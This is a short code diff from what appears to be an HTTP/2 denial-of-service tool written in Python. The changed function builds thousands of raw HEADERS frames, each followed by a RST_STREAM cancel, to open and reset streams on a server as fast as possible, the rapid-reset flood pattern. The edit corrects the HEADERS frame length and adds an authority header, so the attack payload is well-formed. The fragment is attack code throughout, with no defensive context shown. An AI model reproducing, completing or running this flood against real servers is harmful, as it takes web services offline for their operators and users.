@@ -41,7 +41,7 @@ def say(connection: socket.socket, data: bytes) -> bool:
 def http2_by_prior_knowledge(address: Address, end: float) -> None:
     """Open and reset streams, without an upgrade and as fast as can be."""
     streams = b"".join(
-        b"\x00\x00\x04\x01\x05" + number.to_bytes(4, "big") + b"\x82\x84\x86\x41"
+        b"\x00\x00\x06\x01\x05" + number.to_bytes(4, "big") + b"\x82\x84\x86\x41\x01a"
         + b"\x00\x00\x04\x03\x00" + number.to_bytes(4, "big") + b"\x00\x00\x00\x08"
         for number in range(1, 20_000, 2)
     )  # fmt: skip
